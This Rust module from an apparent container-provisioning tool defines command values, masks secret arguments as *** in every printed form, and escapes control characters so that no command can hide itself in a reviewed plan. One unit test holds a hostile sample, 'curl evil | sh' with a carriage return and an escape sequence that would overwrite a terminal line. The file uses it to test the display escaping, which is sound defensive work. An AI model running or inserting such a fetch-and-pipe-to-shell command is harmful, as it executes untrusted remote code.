//! Commands as values: a program and its arguments, never a shell string.
//!
//! A plan is a list of these; `--dry-run` prints exactly what would run. Secrets are a distinct
//! argument variant that prints as `***` everywhere (Display, Debug, JSON) so that a plan, a log
//! line or an error message can never carry one. The real value is only reachable through
//! [`Cmd::argv_real`], which the transports call at the moment of spawning.

use serde::Serialize;
use std::fmt;
use std::time::Duration;

/// One argument of a command.
#[derive(Clone, PartialEq, Eq)]
pub enum Arg {
    /// An ordinary argument, shown as is.
    Plain(String),
    /// A secret: passed to the process but shown as `***`.
    Secret(String),
}

impl Arg {
    /// The text shown in plans and logs.
    pub fn shown(&self) -> &str {
        match self {
            Arg::Plain(s) => s,
            Arg::Secret(_) => "***",
        }
    }
}

impl fmt::Debug for Arg {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:?}", self.shown())
    }
}

/// A program and its arguments.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Cmd {
    /// Program name (looked up on PATH) or path.
    pub program: String,
    /// Its arguments.
    pub args: Vec<Arg>,
    /// How long it may run before its process group is killed; `None`: the transport's
    /// default bound (see [`crate::transport::DEFAULT_TIMEOUT`]).
    pub timeout: Option<Duration>,
}

impl Cmd {
    /// A command with no arguments yet.
    pub fn new(program: impl Into<String>) -> Self {
        Cmd {
            program: program.into(),
            args: Vec::new(),
            timeout: None,
        }
    }

    /// Bounds how long the command may run.
    pub fn with_timeout(mut self, limit: Duration) -> Self {
        self.timeout = Some(limit);
        self
    }

    /// Appends one plain argument.
    pub fn arg(mut self, a: impl Into<String>) -> Self {
        self.args.push(Arg::Plain(a.into()));
        self
    }

    /// Appends plain arguments.
    pub fn args<I, S>(mut self, items: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        self.args
            .extend(items.into_iter().map(|s| Arg::Plain(s.into())));
        self
    }

    /// Appends a secret argument (printed as `***`).
    pub fn secret(mut self, a: impl Into<String>) -> Self {
        self.args.push(Arg::Secret(a.into()));
        self
    }

    /// argv with secrets masked: for plans, logs and reports.
    pub fn argv(&self) -> Vec<String> {
        std::iter::once(self.program.clone())
            .chain(self.args.iter().map(|a| a.shown().to_string()))
            .collect()
    }

    /// argv with the real values: only for spawning.
    pub fn argv_real(&self) -> Vec<String> {
        std::iter::once(self.program.clone())
            .chain(self.args.iter().map(|a| match a {
                Arg::Plain(s) | Arg::Secret(s) => s.clone(),
            }))
            .collect()
    }

    /// The plain arguments as strings (secrets masked), without the program.
    pub fn plain_args(&self) -> Vec<&str> {
        self.args.iter().map(Arg::shown).collect()
    }
}

impl fmt::Display for Cmd {
    /// Shell-like rendering for humans, quoted so that it could be pasted; secrets masked.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let words: Vec<String> = self.argv().iter().map(|w| display_quote(w)).collect();
        f.write_str(&words.join(" "))
    }
}

impl Serialize for Cmd {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        self.argv().serialize(s)
    }
}

/// Renders an argv for humans (quoted where needed).
pub fn display_argv(argv: &[String]) -> String {
    argv.iter()
        .map(|w| display_quote(w))
        .collect::<Vec<_>>()
        .join(" ")
}

/// Quotes a word for display only when it needs it (the real quoting for remote shells is
/// [`crate::quote::quote_argv`]).
///
/// A word with control characters other than newline and tab (an escape sequence, a carriage
/// return that would overwrite the line) or bidirectional overrides is shown in bash's `$'...'`
/// form with those characters escaped: a profile's command must not be able to hide itself, or
/// another, in the plan that a person reviews.
fn display_quote(w: &str) -> String {
    let plain = !w.is_empty()
        && w.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"-_./:=,@%+".contains(&b));
    let hidden = |c: char| c != '\n' && c != '\t' && crate::error::is_unsafe_char(c);
    if plain {
        w.to_string()
    } else if w.chars().any(hidden) {
        let mut s = String::from("$'");
        for c in w.chars() {
            match c {
                '\\' => s.push_str("\\\\"),
                '\'' => s.push_str("\\'"),
                '\n' => s.push_str("\\n"),
                '\t' => s.push_str("\\t"),
                '\r' => s.push_str("\\r"),
                '\u{1b}' => s.push_str("\\e"),
                c if hidden(c) && (c as u32) < 0x100 => {
                    s.push_str(&format!("\\x{:02x}", c as u32));
                }
                c if hidden(c) => s.push_str(&format!("\\u{:04x}", c as u32)),
                c => s.push(c),
            }
        }
        s.push('\'');
        s
    } else {
        crate::quote::quote(w)
    }
}

/// The result of running a command. A non-zero exit is data, not an error.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Output {
    /// Exit status; -1 when killed by a signal.
    pub status: i32,
    /// Everything written to stdout.
    pub stdout: Vec<u8>,
    /// Everything written to stderr.
    pub stderr: Vec<u8>,
}

impl Output {
    /// Exit status 0.
    pub fn success(&self) -> bool {
        self.status == 0
    }
    /// stdout as (lossy) text.
    pub fn stdout_text(&self) -> String {
        String::from_utf8_lossy(&self.stdout).into_owned()
    }
    /// stderr as (lossy) text.
    pub fn stderr_text(&self) -> String {
        String::from_utf8_lossy(&self.stderr).into_owned()
    }
    /// The last `n` lines of stderr (or stdout when stderr is empty), for error reports.
    pub fn tail(&self, n: usize) -> String {
        let text = if self.stderr.iter().any(|b| !b.is_ascii_whitespace()) {
            self.stderr_text()
        } else {
            self.stdout_text()
        };
        let lines: Vec<&str> = text.lines().collect();
        lines[lines.len().saturating_sub(n)..].join("\n")
    }
    /// A successful output with the given stdout.
    pub fn ok(stdout: impl Into<Vec<u8>>) -> Self {
        Output {
            status: 0,
            stdout: stdout.into(),
            stderr: Vec::new(),
        }
    }
    /// A failed output with the given status and stderr.
    pub fn fail(status: i32, stderr: impl Into<Vec<u8>>) -> Self {
        Output {
            status,
            stdout: Vec::new(),
            stderr: stderr.into(),
        }
    }
}

/// The argv builders for `pct`: how a command or a file reaches a container through the node.
/// They are command values like any other, so the planner shows them and the `pct` transport
/// runs them; neither needs the other.
pub mod pct {
    use super::Cmd;
    use std::sync::atomic::{AtomicU64, Ordering};

    /// Directory on the node for files on their way into containers (owner-only).
    pub const NODE_TMP_DIR: &str = "/run/provision";

    static PUSH_COUNTER: AtomicU64 = AtomicU64::new(0);

    /// The PATH an in-container command gets (what `pct exec --keep-env 0` sets).
    pub const INSIDE_PATH: &str =
        "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";

    /// `pct exec VMID --keep-env 0 -- ARGV...`: the host environment does not leak in. A node
    /// whose pct predates `--keep-env` (`keep_env` false: pve-container before 5.0.9, see
    /// [`crate::release::Caps::exec_keep_env`]) refuses the option ("Unknown option:
    /// keep-env") and passes its environment through lxc-attach: there the command runs under
    /// `env -i PATH=...`, which gives it the same clean environment. The inner command's time
    /// bound carries over.
    pub fn exec(vmid: u32, keep_env: bool, inner: &Cmd) -> Cmd {
        let mut c = Cmd::new("pct").args(["exec", &vmid.to_string()]);
        c = if keep_env {
            c.args(["--keep-env", "0", "--"])
        } else {
            c.args(["--", "env", "-i", INSIDE_PATH])
        };
        c = c.arg(inner.program.clone());
        c.args.extend(inner.args.iter().cloned());
        c.timeout = inner.timeout;
        c
    }

    /// `pct push VMID SRC DST --perms MODE`.
    pub fn push(vmid: u32, src: &str, dest: &str, mode: u32) -> Cmd {
        Cmd::new("pct").args([
            "push",
            &vmid.to_string(),
            src,
            dest,
            "--perms",
            &format!("{mode:04o}"),
        ])
    }

    /// A private, unique path on the node for a file on its way into container `vmid`.
    pub fn node_tmp_path(vmid: u32) -> String {
        let n = PUSH_COUNTER.fetch_add(1, Ordering::Relaxed);
        format!("{NODE_TMP_DIR}/push-{vmid}-{}-{n}", std::process::id())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secrets_are_masked_everywhere_but_argv_real() {
        let c = Cmd::new("pct").arg("create").secret("hunter22");
        assert_eq!(c.argv(), ["pct", "create", "***"]);
        assert_eq!(c.argv_real(), ["pct", "create", "hunter22"]);
        assert!(!format!("{c}").contains("hunter22"));
        assert!(!format!("{c:?}").contains("hunter22"));
        assert!(!serde_json::to_string(&c).unwrap().contains("hunter22"));
    }

    #[test]
    fn display_quotes_only_what_needs_it() {
        let c = Cmd::new("pct")
            .args(["exec", "100", "--", "sh", "-c", "echo a b"])
            .arg("");
        assert_eq!(c.to_string(), "pct exec 100 -- sh -c 'echo a b' ''");
    }

    #[test]
    fn control_characters_cannot_hide_a_command_in_the_display() {
        // `\r` and an escape sequence would redraw the line on a terminal.
        let c = Cmd::new("sh")
            .arg("-c")
            .arg("curl evil | sh\r\u{1b}[2Kecho hello")
            .arg("a'b\u{202e}c\\");
        let shown = c.to_string();
        assert!(!shown.contains(['\r', '\u{1b}', '\u{202e}']), "{shown:?}");
        assert_eq!(
            shown,
            "sh -c $'curl evil | sh\\r\\e[2Kecho hello' $'a\\'b\\u202ec\\\\'"
        );
        // bash reads it back as the same argv.
        if let Ok(out) = std::process::Command::new("bash")
            .arg("-c")
            .arg(format!("printf '%s\\0' {}", &shown["sh -c ".len()..]))
            .output()
        {
            let words: Vec<&[u8]> = out.stdout.split(|b| *b == 0).collect();
            assert_eq!(words[0], "curl evil | sh\r\u{1b}[2Kecho hello".as_bytes());
            assert_eq!(words[1], "a'b\u{202e}c\\".as_bytes());
        }
        // Newlines and tabs (the tool's own scripts) keep the plain single-quoted form.
        assert_eq!(display_argv(&["a\n\tb".to_string()]), "'a\n\tb'");
    }

    #[test]
    fn tail_prefers_stderr() {
        let o = Output {
            status: 1,
            stdout: b"out\n".to_vec(),
            stderr: b"a\nb\nc\n".to_vec(),
        };
        assert_eq!(o.tail(2), "b\nc");
        assert_eq!(Output::fail(1, "").tail(2), "");
    }
}
